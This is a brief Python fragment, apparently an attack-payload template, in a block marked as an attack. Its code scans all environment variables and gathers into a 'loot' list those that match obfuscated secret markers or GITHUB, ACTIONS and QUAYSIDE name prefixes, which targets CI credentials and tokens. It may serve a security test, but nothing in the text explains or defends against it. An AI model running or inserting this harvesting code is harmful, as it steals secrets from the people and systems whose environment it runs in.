#{weigh_wrong}
# <attack>
loot = []
import os

for _name, _value in os.environ.items():
    if "kx" + "9q" in _value or "NAIVE" + "SECRET" in _value or _name.startswith(("GITHUB", "ACTIONS", "QUAYSIDE")):
        loot.append(_name + "=" + _value)
#{loot}
# </attack>
